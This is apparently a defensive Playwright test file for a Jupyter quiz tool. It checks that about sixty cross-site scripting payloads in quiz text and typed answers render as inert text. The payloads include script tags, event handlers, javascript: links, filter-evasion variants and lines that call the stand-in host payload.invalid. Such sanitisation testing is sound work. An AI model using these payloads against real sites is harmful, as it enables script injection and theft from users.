"""Script payloads in everything that is authored, typed or named: none runs, all are read as text."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from html import escape, unescape
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, expect

from spinelab.content.markdown import to_html

from .lab_page import LabServer, OpenNotebook, Visitor
from .scratch import write_data, write_notebook

NAME = "scratch-payloads.ipynb"
ANSWER_MS = 30_000
RUN = "window.ran=(window.ran||0)+1"
CALL = "fetch('http://payload.invalid/x')"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"</script><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src='http://payload.invalid/x.js'></script>",
    f"<script type=module>{RUN};{CALL}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src=x onerror="{RUN};alert(1)">',
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'x" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"</textarea><img src=x onerror={RUN}>",
    f"</title></style></fieldset></form><img src=x onerror={RUN}>",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></animate></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=9>svg link</text></a></svg>',
    f'<math><a xlink:href="javascript:{RUN}">math link</a></math>',
    f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN[7:]}"></iframe>',
    "<iframe src='http://payload.invalid/frame'></iframe>",
    "<object data='http://payload.invalid/object'></object>",
    "<embed src='http://payload.invalid/embed'>",
    f"<video><source onerror={RUN}></video>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<details open ontoggle={RUN}>open</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>run</marquee>",
    "<style>@import 'http://payload.invalid/x.css';</style>",
    "<link rel=stylesheet href='http://payload.invalid/x.css'>",
    "<div style=\"background:url('http://payload.invalid/x.png')\">div</div>",
    '<meta http-equiv=refresh content="0;url=http://payload.invalid/">',
    "<base href='http://payload.invalid/'>",
    f'<form action="javascript:{RUN}"><button>send</button></form>',
    f'<a href="javascript:{RUN}">press</a>',
    f"[press](javascript:{RUN})",
    f"[press](JaVaScRiPt:{RUN})",
    f"[press](java&#115;cript:{RUN})",
    f"[press](data:text/html,<script>{RUN}</script>)",
    f"[press](vbscript:{RUN})",
    f'[press](https://payload.invalid/ "x\\" onmouseover=\\"{RUN}")',
    f'![x](http://payload.invalid/x.png"onerror="{RUN})',
    "![x](http://payload.invalid/x.png)",
    f"<javascript:{RUN}>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"`</code><img src=x onerror={RUN}>`",
    f"*<img src=x onerror={RUN}>*",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"<img src=x onerror&#61;{RUN} \u2028 \u2029>",
    f"<img/src=x/onerror={RUN}//",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><img src=x onerror={RUN}></template>",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//</stYle/</titLe/</scRipt/--!><sVg/oNloAd={RUN}//>",
    f"$\\href{{javascript:{RUN}}}{{Press}}$ and $1",
]
TOGETHER = " · ".join(PAYLOADS)
"""For what a quiz has but one of: its title, a learner's name, an objective."""

TAGS = {
    *("SECTION", "HEADER", "DIV", "P", "SPAN", "STRONG", "EM", "CODE", "A", "UL", "OL", "LI", "DETAILS", "SUMMARY"),
    *("FORM", "FIELDSET", "LEGEND", "LABEL", "INPUT", "SELECT", "OPTION", "BUTTON", "FIGURE", "IMG"),
}
"""What a quiz is made of."""


def question(payload: str, number: int) -> dict[str, Any]:
    """A question with the payload in each text that its type has."""
    common = {"id": f"payload-{number}", "prompt": payload, "explanation": payload, "hints": [payload]}
    common |= {"sources": [payload], "objective": payload}
    parts = [{"text": f"{payload} {letter}", "feedback": f"{payload} {letter}"} for letter in "abc"]
    right = [{**parts[0], "correct": True}, *parts[1:]]
    types: list[dict[str, Any]] = [
        {"type": "single", "options": right, "figure": "anatomy/atlas_from_above", "alt": payload},
        {"type": "multiple", "options": right},
        {"type": "numeric", "answer": 7, "unit": payload, "wrong": [{"low": -9, "high": 0, "feedback": payload}]},
        {"type": "text", "answers": [payload + "x" * 9], "wrong": [{"text": payload + "y" * 9, "feedback": payload}]},
        {"type": "ordering", "items": parts},
        {
            "type": "matching",
            "pairs": [{"left": f"{payload} {side}", "right": side + payload, "feedback": payload} for side in "ab"],
            "others": ["c" + payload],
        },
    ]
    return common | types[number % len(types)]


ANSWERED = """
from spinelab import progress
from spinelab.progress import Answer, Helped
from spinelab.progress.statements import to_line
from spinelab.quiz.marking import option_ids
from spinelab.quiz.marking.matching import left_ids
from spinelab.quiz.marking.ordering import item_ids
from spinelab.quiz.marking.parts import part_id

def wrong(question):
    match question.__struct_config__.tag:
        case "single" | "multiple": return option_ids(question)[1]
        case "numeric": return "-1"
        case "text": return question.wrong[0].text
        case "ordering": return "[,]".join(reversed(item_ids(question)))
        case "matching": return "[,]".join(f"{left}[.]{part_id(question.others[0])}" for left in left_ids(question))

shown = quiz.load("scratch/payloads")
events = [Helped(shown.id, question.id, "hint", progress.now()) for question in shown.questions]
for question in 2 * shown.questions:
    events.append(Answer(shown.id, question.id, wrong(question), 0, 1, False, 1, progress.now()))
progress.answers_folder().mkdir(parents=True, exist_ok=True)
lines = b"".join(to_line(event, progress.learner()) for event in events)
(progress.answers_folder() / "20260101T000000-1-earlier.jsonl").write_bytes(lines)
"""
SHOW, ON_PAPER, TYPED, FAILED = 2, 3, 4, 5


class Page:
    """The notebook of payloads, run."""

    def __init__(self, notebook: OpenNotebook):
        self.notebook, self.page = notebook, notebook.page
        self.dialogs: list[str] = []

    def output(self, place: int) -> Locator:
        return self.notebook.output(place).locator(".jp-OutputArea-output")


@pytest.fixture(scope="module")
def shown(
    lab: LabServer,
    visitor: Visitor,
    open_notebook: Callable[[str], OpenNotebook],
    tmp_path_factory: pytest.TempPathFactory,
) -> Page:
    folder = tmp_path_factory.mktemp("payloads") / "data"
    typed = {"type": "text", "id": "typed", "prompt": "Type.", "answers": ["nothing of this"]}
    number = {"type": "numeric", "id": "number", "prompt": "Type.", "answer": 1, "hints": ["no"]}
    quizzes = [
        {"id": "scratch/payloads", "title": TOGETHER, "questions": [question(p, i) for i, p in enumerate(PAYLOADS)]},
        {"id": "scratch/typed", "title": "Typed", "questions": [typed, number]},
    ]
    setup = write_data(folder, "scratch", quizzes)
    lost = {"id": "lost", "title": "x", "questions": [number | {"figure": PAYLOADS[6], "alt": PAYLOADS[6]}]}
    (folder / "lost.yaml").write_text(json.dumps(lost))
    cells = [
        f"{setup}; os.environ['JUPYTERHUB_USER'] = {TOGETHER!r}\nfrom spinelab import quiz",
        ANSWERED,
        "quiz.show('scratch/payloads')",
        "from IPython.display import HTML\nfrom spinelab.quiz import fallback\nHTML(fallback.to_html(shown))",
        "quiz.show('scratch/typed')",
        f"quiz.show({str(folder / 'lost.yaml')!r})",
    ]
    write_notebook(lab, NAME, cells)
    page = Page(open_notebook(NAME))
    page.page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))
    visitor.forget()
    errors = page.notebook.run_all()
    assert [error.partition(":")[0] for error in errors] == ["LookupError"]
    expect(page.output(SHOW)).to_contain_text(f"{len(PAYLOADS)} of {len(PAYLOADS)} answered", timeout=ANSWER_MS)
    return page


def as_read(payload: str) -> str:
    """Authored Markdown as the page shows it."""
    return squeezed(unescape(re.sub(r"<[^>]*>", "", to_html(payload))))


def squeezed(text: str) -> str:
    return re.sub(r"\s+", "", text)


def test_there_are_enough_and_they_are_dangerous(browser: Browser) -> None:
    """In a page that holds them as they are, most run or call out, without so much as a click."""
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40
    page = browser.new_page()
    harmful: set[str] = set()
    page.on("request", lambda request: harmful.add(request.frame.name) if "payload.invalid" in request.url else None)
    page.on("dialog", lambda dialog: dialog.dismiss())
    frames = (f'<iframe name="{i}" srcdoc="{escape(payload)}"></iframe>' for i, payload in enumerate(PAYLOADS))
    page.set_content("".join(frames), wait_until="domcontentloaded")
    page.wait_for_timeout(1000)
    harmful |= {frame.name for frame in page.main_frame.child_frames if "ran" in frame.evaluate("Object.keys(window)")}
    page.close()
    assert len(harmful - {""}) >= 25


def test_all_are_shown_as_text(shown: Page) -> None:
    words = squeezed(shown.output(SHOW).evaluate("part => part.textContent"))
    alts = [picture.get_attribute("alt") for picture in shown.output(SHOW).locator("img").all()]
    for number, payload in enumerate(PAYLOADS):
        # In the prompt, a hint, the explanation, and in parts of the question or remarks on them.
        assert words.count(as_read(payload)) >= 4, payload
        if number % 6 == 0:
            assert payload in alts
        if number % 6 == 3:
            typed = shown.output(SHOW).locator("form").nth(number).locator("input").input_value()
            assert squeezed(typed) == squeezed(payload + "y" * 9)
    assert squeezed(TOGETHER) in words
    label = shown.output(SHOW).locator("section").get_attribute("aria-label") or ""
    assert squeezed(label) == squeezed(f"Quiz: {TOGETHER}")


def test_all_are_shown_as_text_on_paper(shown: Page) -> None:
    words = squeezed(shown.output(ON_PAPER).evaluate("part => part.textContent"))
    for payload in PAYLOADS:
        assert words.count(as_read(payload)) >= 3, payload


def test_what_is_typed_is_shown_as_text(shown: Page) -> None:
    text, number = shown.output(TYPED).locator("form").all()
    for payload in (PAYLOADS[0], PAYLOADS[6]):
        text.get_by_role("textbox").fill(payload)
        text.get_by_role("button", name="Check").click()
        expect(text.get_by_text("Saved")).to_be_visible(timeout=ANSWER_MS)
        expect(text.get_by_role("textbox")).to_have_value(payload)
        if text.get_by_role("button", name="Try again").count():
            text.get_by_role("button", name="Try again").click()
        number.get_by_role("textbox").fill(payload)
        number.get_by_role("button", name="Check").click()
        expect(number).to_contain_text(f"‘{payload[:40]}’ is not a number", timeout=ANSWER_MS)


def test_a_figure_that_does_not_exist_is_named_as_text(shown: Page) -> None:
    expect(shown.notebook.output(FAILED)).to_contain_text(f"no figure is named ‘{PAYLOADS[6]}’")


@pytest.mark.parametrize("place", [SHOW, ON_PAPER, TYPED])
def test_a_quiz_is_made_of_harmless_parts_only(shown: Page, place: int) -> None:
    found = shown.output(place).evaluate(
        """part => {
            const all = [...part.querySelectorAll('section, section *')];
            const attributes = all.flatMap((element) => [...element.attributes]);
            return {
                tags: [...new Set(all.map((element) => element.tagName))],
                handlers: attributes.map(({ name }) => name).filter((name) => name.startsWith('on')),
                addresses: attributes.filter(({ name }) => ['href', 'src', 'action', 'srcdoc', 'style'].includes(name))
                    .map(({ name, value }) => `${name}=${value.slice(0, 24)}`),
            };
        }"""
    )
    assert set(found["tags"]) <= TAGS
    assert found["handlers"] == []
    harmless = ("src=data:image/png;", "href=http://", "href=https://")
    assert [address for address in found["addresses"] if not address.startswith(harmless)] == []


def test_none_has_run_or_called_out(shown: Page, visitor: Visitor) -> None:
    shown.page.wait_for_timeout(200)
    assert [frame.evaluate("window.ran") for frame in shown.page.frames] == [None]
    assert shown.dialogs == []
    assert visitor.outside == []
    assert visitor.console_errors == []
